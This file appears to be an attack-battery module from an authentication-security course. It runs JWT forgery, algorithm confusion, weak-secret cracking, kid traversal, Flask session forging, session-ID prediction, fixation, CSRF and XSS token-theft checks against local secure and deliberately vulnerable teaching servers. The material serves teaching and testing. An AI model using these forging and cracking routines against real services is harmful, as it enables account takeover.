"""The attack battery: every attack of lesson 06 against a server, refused or succeeded.

    target = Target("http://127.0.0.1:5001", kind="jwt-cookie")
    outcomes = run_attacks(target)         # one Outcome per attack
    print(format_report(outcomes))

``course_servers()`` starts the course's secure reference servers and
``vulnerable_servers()`` the deliberately weak ones, each paired with the attack it
must fall to; the test suite and ``authlab attack --course`` run both, so the secure
servers are shown to hold and the demos are shown to be honest.
"""

from __future__ import annotations

import contextlib
import dataclasses
import functools
import http.cookiejar
from collections.abc import Callable, Iterator
from pathlib import Path

import nbformat
import requests
from cryptography.hazmat.primitives.asymmetric import rsa
from flask import Flask

import authlab
from authlab.apps import jwt_cookie_app, jwt_header_app, session_app
from authlab.attacks import jwt_attacks as jwt_
from authlab.attacks import session_attacks as sessions
from authlab.attacks.probes import (
    TIMEOUT,
    Finding,
    Target,
    TargetError,
    csrf_probe,
    fixation_probe,
    replay_after_logout,
    token_theft_probe,
    verdict,
)
from authlab.stores import MemoryStore
from authlab.users import DEMO_USERS, Users
from authlab.vulnerable import (
    alg_confusion_app,
    alg_none_app,
    client_side_logout_app,
    csrf_app,
    embedded_jwk_app,
    fixation_app,
    flask_session_app,
    kid_traversal_app,
    no_expiry_app,
    predictable_session_app,
    unverified_signature_app,
    weak_secret_app,
    xss_app,
)
from authlab.weak import weak_secrets

JWT_KINDS = ("jwt-header", "jwt-cookie")
COOKIE_KINDS = ("session", "jwt-cookie")
SAMPLE_LOGINS = 4


class NotApplicable(Exception):
    """The attack does not apply to this server (the reason says why)."""


@dataclasses.dataclass(frozen=True)
class Attack:
    id: str
    number: int
    title: str
    advisory: str
    kinds: tuple[str, ...]
    run: Callable[[Target], Finding]


@dataclasses.dataclass
class Outcome:
    target: str
    kind: str
    attack: Attack
    verdict: str  # "succeeded", "refused", "skipped" or "error"
    detail: str


# --- JWT attacks ------------------------------------------------------------------------


def _observed_token(target: Target) -> tuple[dict, dict, str]:
    token = target.observed().token
    header, claims = jwt_.unverified(token)
    return header, claims, token


def _first_accepted(target: Target, tokens: dict[str, str]) -> Finding:
    results = [verdict(target.profile(token=token), what) for what, token in tokens.items()]
    return next((result for result in results if result), results[-1])


def _unverified(target: Target) -> Finding:
    _, _, token = _observed_token(target)
    return verdict(target.profile(token=jwt_.tamper_claims(token, sub="admin")), "payload edited to sub=admin")


def _alg_none(target: Target) -> Finding:
    _, claims, _ = _observed_token(target)
    admin = jwt_.as_user(claims)
    spellings = ("none", "None", "NONE")
    return _first_accepted(target, {f'alg "{alg}"': jwt_.forge_unsigned(admin, alg) for alg in spellings})


def _weak_secret(target: Target) -> Finding:
    header, claims, token = _observed_token(target)
    if not str(header.get("alg", "")).upper().startswith("HS"):
        raise NotApplicable(f"signed with {header.get('alg')}: no shared secret")
    secret = jwt_.crack_hs256(token)
    if secret is None:
        return Finding(False, f"the secret is none of the {len(weak_secrets())} common ones")
    extra = {"kid": header["kid"]} if "kid" in header else None
    forged = jwt_.forge_hs256(jwt_.as_user(claims), secret, extra)
    return verdict(target.profile(token=forged), f"secret cracked ({secret!r}), admin token forged")


def _published_public_key(target: Target):
    for path in ("/.well-known/jwks.json", "/jwks.json", "/public-key.pem"):
        response = requests.get(target.url + path, timeout=TIMEOUT)
        if response.ok and path.endswith(".pem"):
            return response.content
        if response.ok:
            with contextlib.suppress(ValueError, KeyError, IndexError, TypeError):
                return jwt_.public_key_pem(response.json()["keys"][0])
    return None


def _alg_confusion(target: Target) -> Finding:
    header, claims, _ = _observed_token(target)
    if not str(header.get("alg", "")).upper().startswith("RS"):
        raise NotApplicable(f"signed with {header.get('alg')}: no public key to confuse with a secret")
    public = target.public_key or _published_public_key(target)
    if public is None:
        raise NotApplicable("the public key is not published here: pass it (--public-key)")
    pem = jwt_.public_key_pem(public)
    admin = jwt_.as_user(claims)
    return _first_accepted(target, {f"HS256 keyed with the public PEM{suffix}": jwt_.alg_confusion_token(key, admin)
                                    for suffix, key in (("", pem), (" (stripped)", pem.strip()))})


def _kid_injection(target: Target) -> Finding:
    _, claims, _ = _observed_token(target)
    admin = jwt_.as_user(claims)
    return _first_accepted(target, {f"kid={kid!r}, empty key": jwt_.kid_injection_token(admin, kid)
                                    for kid in (jwt_.DEV_NULL_KID, "/dev/null")})


@functools.cache
def _attacker_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _embedded_jwk(target: Target) -> Finding:
    _, claims, _ = _observed_token(target)
    forged = jwt_.embedded_jwk_token(jwt_.as_user(claims), _attacker_key())
    return verdict(target.profile(token=forged), "signed with the attacker's key, sent in the jwk header")


def _expired(target: Target) -> Finding:
    header, claims, _ = _observed_token(target)
    if target.signing_key is None:
        raise NotApplicable("minting a token captured long ago needs the server's key (--hmac-secret/--private-key)")
    alg = header.get("alg", "HS256")
    return _first_accepted(target, {
        "token expired an hour ago": jwt_.expired_token(claims, target.signing_key, alg),
        "token not valid for another hour": jwt_.not_yet_valid_token(claims, target.signing_key, alg),
    })


# --- session and cookie attacks -----------------------------------------------------------


def _anonymous_ids(target: Target, cookie_name: str, count: int) -> list[str]:
    """Session IDs the server hands a visitor at GET / (a fresh visitor each time), if it hands any out."""
    visitor = requests.Session()
    visitor.cookies.set_policy(http.cookiejar.DefaultCookiePolicy(allowed_domains=[]))  # never send one back
    ids = []
    for _ in range(count):
        cookies = sessions.probe_cookie_flags(visitor.get(target.url + "/", timeout=TIMEOUT))
        ids += [c.value for c in cookies if c.name == cookie_name]
        if not ids:
            return []
    return ids


def _predictable(target: Target) -> Finding:
    cookie_name = target.observed().cookie_name
    observed = _anonymous_ids(target, cookie_name, 16)
    source = "visitor IDs from GET /"
    if not observed:
        observed = [target.login().client.cookies[cookie_name] for _ in range(SAMPLE_LOGINS)]
        source = "IDs issued at login"
    report = sessions.session_id_entropy(observed)
    if report.guessable or report.alphabet != "hex":
        return Finding(report.guessable, f"{source}: {report}")
    observed += _anonymous_ids(target, cookie_name, 141)  # hex that looks random: is it Python's random?
    with contextlib.suppress(ValueError):
        clone = sessions.clone_python_random(observed[:-1])
        if f"{clone.getrandbits(128):032x}" == observed[-1]:
            return Finding(True, "Python random's state rebuilt from 156 visitor IDs: the next ID was predicted")
    return Finding(False, f"{source}: {report}; not Python's random either")


def _flask_secret(target: Target) -> Finding:
    login = target.observed()
    cookie = login.client.cookies.get(login.cookie_name)
    try:
        data = sessions.decode_flask_session(cookie)
    except ValueError:
        raise NotApplicable("the cookie is an opaque ID, not a signed Flask session") from None
    secret = sessions.crack_flask_session(cookie)
    if secret is None:
        return Finding(False, f"the SECRET_KEY is none of the {len(weak_secrets())} common ones")
    admin = {key: "admin" if value == target.username else value for key, value in data.items()}
    forged = sessions.forge_flask_session(admin, secret)
    return verdict(target.profile(cookies={login.cookie_name: forged}), f"SECRET_KEY {secret!r} cracked, cookie forged")


def _token_theft(target: Target) -> Finding:
    if target.kind == "jwt-header":
        raise NotApplicable("a bearer token is in the page's JavaScript by design: only escaping and CSP protect it")
    return token_theft_probe(target)


ATTACKS = (
    Attack("jwt-unverified", 1, "signature never verified", "CWE-347", JWT_KINDS, _unverified),
    Attack("jwt-alg-none", 2, 'alg "none" accepted', "CWE-347; CVE-2022-23540", JWT_KINDS, _alg_none),
    Attack("jwt-weak-secret", 3, "weak HMAC secret cracked offline", "CWE-1391, CWE-321", JWT_KINDS, _weak_secret),
    Attack("jwt-alg-confusion", 4, "RS256 public key used as HS256 secret",
           "CWE-347; CVE-2015-9235, CVE-2016-10555, CVE-2017-11424", JWT_KINDS, _alg_confusion),
    Attack("jwt-kid-injection", 5, "kid header path traversal", "CWE-22 (CWE-89 for SQL lookups)", JWT_KINDS,
           _kid_injection),
    Attack("jwt-embedded-jwk", 6, "jwk header key trusted", "CWE-347; CVE-2018-0114", JWT_KINDS, _embedded_jwk),
    Attack("jwt-expired", 7, "expired / not-yet-valid token accepted", "CWE-613", JWT_KINDS, _expired),
    Attack("session-predictable", 8, "predictable session IDs", "CWE-330, CWE-338, CWE-340", ("session",),
           _predictable),
    Attack("session-fixation", 9, "session fixation", "CWE-384", ("session",), fixation_probe),
    Attack("flask-weak-secret", 10, "Flask SECRET_KEY cracked, session forged", "CWE-1391; CVE-2023-27524",
           ("session",), _flask_secret),
    Attack("logout-replay", 11, "credential still valid after logout", "CWE-613",
           ("session", "jwt-header", "jwt-cookie"), replay_after_logout),
    Attack("csrf", 12, "cross-site request forgery", "CWE-352", COOKIE_KINDS, csrf_probe),
    Attack("xss-token-theft", 13, "login cookie readable by script", "CWE-1004, CWE-79",
           ("session", "jwt-header", "jwt-cookie"), _token_theft),
)
ATTACKS_BY_ID = {attack.id: attack for attack in ATTACKS}


def run_attack(target: Target, attack: Attack) -> Outcome:
    """One attack against one target; never raises for what the server does."""
    if target.kind not in attack.kinds:
        return Outcome(target.name, target.kind, attack, "skipped", f"not for {target.kind} servers")
    if attack.id in target.skip:
        return Outcome(target.name, target.kind, attack, "skipped", target.skip[attack.id])
    try:
        finding = attack.run(target)
    except NotApplicable as reason:
        return Outcome(target.name, target.kind, attack, "skipped", str(reason))
    except TargetError as error:
        return Outcome(target.name, target.kind, attack, "error", str(error))
    except Exception as error:  # a server answering nonsense must not stop the battery
        return Outcome(target.name, target.kind, attack, "error", f"{type(error).__name__}: {str(error)[:160]}")
    return Outcome(target.name, target.kind, attack, "succeeded" if finding else "refused", finding.detail)


def run_attacks(target: Target, attacks: tuple[Attack, ...] = ATTACKS) -> list[Outcome]:
    """Every attack in ``attacks`` against ``target``, in lesson order."""
    return [run_attack(target, attack) for attack in attacks]


def format_report(outcomes: list[Outcome]) -> str:
    """Per server, each attack for its kind: verdict, advisory class, and what happened."""
    marks = {"succeeded": "SUCCEEDED", "refused": "refused", "skipped": "n/a", "error": "ERROR"}
    lines = []
    for target in dict.fromkeys(outcome.target for outcome in outcomes):
        lines.append(f"== {target}")
        for outcome in (o for o in outcomes if o.target == target and o.kind in o.attack.kinds):
            attack = outcome.attack
            lines.append(f"  {attack.number:>2} {attack.id:<20} {marks[outcome.verdict]:<9} "
                         f"[{attack.advisory}] {outcome.detail}")
    return "\n".join(lines)


def summary(outcomes: list[Outcome]) -> str:
    """'N attacks tried against M servers: …', counting only the attacks that applied."""
    tried = [o for o in outcomes if o.verdict in ("succeeded", "refused")]
    servers = len({o.target for o in outcomes})
    counts = {verdict: sum(o.verdict == verdict for o in outcomes) for verdict in ("succeeded", "refused", "error")}
    skipped = len(outcomes) - len(tried) - counts["error"]
    return (f"{len(tried)} attacks tried against {servers} servers: {counts['refused']} refused, "
            f"{counts['succeeded']} succeeded, {counts['error']} errors ({skipped} not applicable)")


# --- the course's servers -------------------------------------------------------------------


@contextlib.contextmanager
def _serving(apps: list[tuple[Flask, str, dict]]) -> Iterator[list[Target]]:
    """Serve each ``(app, kind, target options)`` on loopback, named after the app; stop them all afterwards."""
    servers = []
    try:
        targets = []
        for app, kind, options in apps:
            servers.append(authlab.serve(app, name=f"battery-{app.name}", show=False))
            state = app.extensions.get("authlab")  # the course's apps expose their keys; a lab's app does not
            keys = {"public_key": state.verifying_key if state.algorithm == "RS256" else None,
                    "signing_key": state.signing_key} if state else {}
            targets.append(Target(servers[-1].url, kind, name=app.name, **keys, **options))
        yield targets
    finally:
        for server in servers:
            server.stop()


@contextlib.contextmanager
def course_servers(users: Users | None = None) -> Iterator[list[Target]]:
    """Start the course's reference servers: sessions; JWT in a header and in a cookie, HS256 and RS256."""
    users = users or Users()
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    stateless = {"skip": {"logout-replay": "stateless by design: logout cannot revoke, the 15-minute expiry bounds "
                                           "a copied token (lesson 04); the denylist variant revokes"}}
    apps = [
        (session_app(users=users), "session", {}),
        (jwt_header_app(users=users, denylist=MemoryStore(), name="jwt-header-app-hs256"), "jwt-header", {}),
        (jwt_header_app(key, users, denylist=MemoryStore(), name="jwt-header-app-rs256"), "jwt-header", {}),
        (jwt_header_app(users=users, name="jwt-header-app-hs256-stateless"), "jwt-header", stateless),
        (jwt_header_app(key, users, name="jwt-header-app-rs256-stateless"), "jwt-header", stateless),
        (jwt_cookie_app(users=users, name="jwt-cookie-app-hs256"), "jwt-cookie", {}),
        (jwt_cookie_app(key, users, name="jwt-cookie-app-rs256"), "jwt-cookie", {}),
    ]
    with _serving(apps) as targets:
        yield targets


# attack -> the vulnerable server(s) it must break, and how they carry the login
_DEMOS = (
    ("jwt-unverified", unverified_signature_app, "jwt-header"),
    ("jwt-alg-none", alg_none_app, "jwt-header"),
    ("jwt-weak-secret", weak_secret_app, "jwt-header"),
    ("jwt-alg-confusion", alg_confusion_app, "jwt-header"),
    ("jwt-kid-injection", kid_traversal_app, "jwt-header"),
    ("jwt-embedded-jwk", embedded_jwk_app, "jwt-header"),
    ("jwt-expired", no_expiry_app, "jwt-header"),
    *(("session-predictable", functools.partial(predictable_session_app, scheme), "session")
      for scheme in ("counter", "time", "random")),
    ("session-fixation", fixation_app, "session"),
    ("flask-weak-secret", flask_session_app, "session"),
    ("logout-replay", client_side_logout_app, "session"),
    ("csrf", csrf_app, "session"),
    ("xss-token-theft", xss_app, "jwt-cookie"),
)


@contextlib.contextmanager
def vulnerable_servers(users: Users | None = None) -> Iterator[list[tuple[Target, Attack]]]:
    """Start every deliberately vulnerable server, each paired with the attack it must fall to."""
    users = users or Users()
    with _serving([(factory(users=users), kind, {}) for _, factory, kind in _DEMOS]) as targets:
        yield [(target, ATTACKS_BY_ID[attack_id]) for target, (attack_id, _, _) in zip(targets, _DEMOS, strict=True)]


# --- the lab solutions ----------------------------------------------------------------------

SOLUTIONS = Path(__file__).resolve().parents[2] / "solutions"
LAB_KINDS = {"lab1_sessions": "session", "lab2_jwt_header": "jwt-header", "lab3_jwt_cookie": "jwt-cookie"}


class SolutionLoadError(Exception):
    """A solved lab notebook could not be turned into a running app."""


def load_solution_app(path: Path) -> Flask:
    """Run a solved lab's own cells (not its check cells) and return its ``app``, with alice registered.

    The labs define ``app`` (a Flask app with the course's routes) and ``register(username,
    password)``; grading cells (nbgrader ``grade: true``, or importing ``authlab.checks``) are left out.
    """
    try:
        notebook = nbformat.read(path, as_version=4)
    except (OSError, ValueError) as error:
        raise SolutionLoadError(f"{path.name}: unreadable notebook ({error})") from None
    namespace: dict = {"__name__": f"solution_{path.stem}"}
    for index, cell in enumerate(notebook.cells):
        grading = cell.get("metadata", {}).get("nbgrader", {}).get("grade", False)
        if cell.cell_type != "code" or grading or "authlab.checks" in cell.source:
            continue
        try:
            exec(compile(cell.source, f"{path.name}[{index}]", "exec"), namespace)
        except Exception as error:
            raise SolutionLoadError(f"{path.name}: cell {index} raised {type(error).__name__}: {error}") from None
    app, register = namespace.get("app"), namespace.get("register")
    if not isinstance(app, Flask) or not callable(register):
        raise SolutionLoadError(f"{path.name}: defines no Flask `app` and `register(username, password)`")
    register("alice", DEMO_USERS["alice"])
    return app


@contextlib.contextmanager
def solution_servers(folder: Path = SOLUTIONS) -> Iterator[tuple[list[Target], list[str]]]:
    """Serve every solved lab that has a login to attack; also say which could not be loaded, and why."""
    apps, problems = [], []
    for stem, kind in LAB_KINDS.items():
        path = folder / f"{stem}.ipynb"
        if not path.is_file():
            continue
        try:
            apps.append((load_solution_app(path), kind, {}))
        except SolutionLoadError as error:
            problems.append(str(error))
    with _serving(apps) as targets:
        yield targets, problems


@dataclasses.dataclass
class BatteryResult:
    secure: list[Outcome]  # every attack against every course server and lab solution
    demos: list[Outcome]  # each attack against the vulnerable server it must break
    not_loaded: list[str]  # lab solutions present but not loadable, with the reason

    @property
    def ok(self) -> bool:
        held = all(outcome.verdict in ("refused", "skipped") for outcome in self.secure)
        return held and all(outcome.verdict == "succeeded" for outcome in self.demos)


def course_battery(users: Users | None = None) -> BatteryResult:
    """Every attack against every course server and lab solution, and each attack against its vulnerable server."""
    users = users or Users()
    with course_servers(users) as targets, solution_servers() as (solutions, not_loaded):
        secure = [outcome for target in [*targets, *solutions] for outcome in run_attacks(target)]
    with vulnerable_servers(users) as pairs:
        demos = [run_attack(target, attack) for target, attack in pairs]
    return BatteryResult(secure, demos, not_loaded)
